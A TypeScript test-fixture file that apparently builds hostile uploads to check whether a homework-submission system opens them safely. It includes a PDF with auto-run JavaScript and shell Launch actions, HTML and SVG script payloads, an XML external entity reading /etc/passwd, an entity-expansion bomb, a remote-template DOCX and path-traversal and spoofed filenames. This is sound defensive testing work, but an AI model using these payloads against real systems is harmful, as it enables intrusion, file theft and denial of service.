import { strToU8, type Zippable, zipSync } from 'fflate';

/** A file that would do something when it is opened by a program that lets it: made here, never taken from elsewhere. */
export interface HostileFile {
  readonly name: string;
  readonly bytes: Buffer;
}

/** Every way that a file knows to call home, to start something, or to run: `home` is told if one of them works. */
export function hostileFiles(home: string): readonly HostileFile[] {
  const web = `<script>fetch(${JSON.stringify(`${home}/script`)})</script><img src="${home}/image.png" onerror="fetch('${home}/handler')"><iframe src="${home}/frame"></iframe><meta http-equiv="refresh" content="0;url=${home}/refresh"><link rel="stylesheet" href="${home}/style.css">`;
  return [
    { name: 'scripts.pdf', bytes: hostilePdf(home) },
    { name: 'page.html', bytes: Buffer.from(`<!doctype html><title>x</title>${web}`) },
    { name: 'dessin.svg', bytes: Buffer.from(hostileSvg(home)) },
    { name: 'modele.docx', bytes: remoteTemplateDocx(home) },
    { name: 'macros.docm', bytes: macroDocm() },
    { name: 'entites.svg', bytes: Buffer.from(entitiesSvg(home)) },
  ];
}

/** Opens by itself, by page, by link and by form: scripts, a program, another file, an address, bytes that lie elsewhere. */
export function hostilePdf(home: string): Buffer {
  const script = `app.launchURL('${home}/js', true); this.submitForm('${home}/submit'); this.getURL('${home}/url');`;
  const action = (body: string) => `<</Type/Action${body}>>`;
  const link = (body: string, at: number) =>
    `<</Type/Annot/Subtype/Link/Rect[0 ${at} 600 ${at + 100}]/Border[0 0 0]/A${action(body)}>>`;
  const launch = '/S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>';
  const content = 'BT /F1 40 Tf 50 700 Td (Devoir) Tj ET /Far Do';
  return pdfOf([
    `<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R/AA<</WC 5 0 R/DP 5 0 R>>/Names<</JavaScript<</Names[(run) 5 0 R]>>/EmbeddedFiles<</Names[(evil.exe) 8 0 R]>>>>/AcroForm<</Fields[]/XFA 9 0 R>>>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/AA<</O 5 0 R/C 6 0 R>>/Resources<</Font<</F1 <</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>/XObject<</Far 7 0 R>>>>/Annots[${link(launch, 0)}${link(`/S/URI/URI(${home}/uri)`, 100)}${link(`/S/GoToR/F<</FS/URL/F(${home}/other.pdf)>>/D[0/Fit]`, 200)}${link(`/S/SubmitForm/F<</FS/URL/F(${home}/form)>>`, 300)}${link('/S/JavaScript/JS(app.alert(1))', 400)}${link('/S/URI/URI(javascript:fetch\\(1\\))', 500)}]>>`,
    `<</Length ${content.length}>>stream\n${content}\nendstream`,
    action(`/S/JavaScript/JS(${script.replaceAll('(', '\\(').replaceAll(')', '\\)')})`),
    action(launch),
    `<</Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8/F<</FS/URL/F(${home}/pixels)>>/Length 1>>stream\n0\nendstream`,
    '<</Type/Filespec/F(evil.exe)/EF<</F 10 0 R>>>>',
    `<</Length 0>>stream\n\nendstream`,
    '<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream',
  ]);
}

function pdfOf(objects: readonly string[]): Buffer {
  let text = '%PDF-1.7\n';
  const offsets = objects.map((object, index) => {
    const offset = text.length;
    text += `${index + 1} 0 obj${object}endobj\n`;
    return `${String(offset).padStart(10, '0')} 00000 n \n`;
  });
  const size = objects.length + 1;
  const table = `xref\n0 ${size}\n0000000000 65535 f \n${offsets.join('')}`;
  return Buffer.from(
    `${text}${table}trailer<</Size ${size}/Root 1 0 R>>\nstartxref\n${text.length}\n%%EOF\n`,
    'latin1',
  );
}

function hostileSvg(home: string): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200" onload="fetch('${home}/onload')">
<script>fetch('${home}/svg-script')</script><style>@import url('${home}/import.css'); rect { fill: url('${home}/fill.svg#a') }</style>
<image href="${home}/image.png" width="9" height="9"/><use xlink:href="${home}/use.svg#a"/><rect width="200" height="200"/>
<foreignObject width="200" height="200"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${home}/svg-frame"></iframe></foreignObject></svg>`;
}

function entitiesSvg(home: string): string {
  const levels = Array.from({ length: 12 }, (_none, level) =>
    level === 0 ? '<!ENTITY e0 "lol">' : `<!ENTITY e${level} "${`&e${level - 1};`.repeat(10)}">`,
  );
  return `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY far SYSTEM "${home}/entity"><!ENTITY file SYSTEM "file:///etc/passwd">${levels.join('')}]>
<svg xmlns="http://www.w3.org/2000/svg" width="99" height="99"><text>&far;&file;&e11;</text></svg>`;
}

const CONTENT_TYPES =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
const RELATIONSHIPS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

function docx(parts: Zippable): Buffer {
  return Buffer.from(
    zipSync({
      '[Content_Types].xml': strToU8(CONTENT_TYPES),
      '_rels/.rels': strToU8(
        `<Relationships xmlns="${RELATIONSHIPS}"><Relationship Id="r1" Type="${OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>`,
      ),
      'word/document.xml': strToU8(
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Devoir</w:t></w:r></w:p></w:body></w:document>',
      ),
      ...parts,
    }),
  );
}

/** Word would fetch the template, a picture and a subdocument as soon as it opens the file. */
function remoteTemplateDocx(home: string): Buffer {
  const external = (id: string, type: string, path: string) =>
    `<Relationship Id="${id}" Type="${OFFICE}/${type}" Target="${home}/${path}" TargetMode="External"/>`;
  return docx({
    'word/_rels/settings.xml.rels': strToU8(
      `<Relationships xmlns="${RELATIONSHIPS}">${external('t', 'attachedTemplate', 'template.dotm')}</Relationships>`,
    ),
    'word/_rels/document.xml.rels': strToU8(
      `<Relationships xmlns="${RELATIONSHIPS}">${external('i', 'image', 'picture.png')}${external('s', 'subDocument', 'sub.docx')}</Relationships>`,
    ),
    'word/settings.xml': strToU8('<w:settings xmlns:w="x"/>'),
  });
}

function macroDocm(): Buffer {
  return docx({ 'word/vbaProject.bin': strToU8('Attribute VB_Name = "AutoOpen"') });
}

/** Names that trick a person or a system, as a student's file may bear them. */
export const HOSTILE_NAMES = [
  'CON',
  'NUL.pdf',
  'com1.txt',
  'aux.tar.gz',
  'devoir.pdf ',
  'devoir.pdf...',
  'devoir\u202Efdp.exe',
  '\u2066devoir\u2069.pdf',
  'a\u0000b.pdf',
  'ligne\nautre.pdf',
  '../../.bashrc',
  '..\\..\\autorun.inf',
  'C:\\Windows\\win.ini',
  'a:b.pdf',
  '-rf.pdf',
  '.',
  '..',
  '',
  `${'é'.repeat(300)}.pdf`,
  'x'.repeat(2000),
] as const;
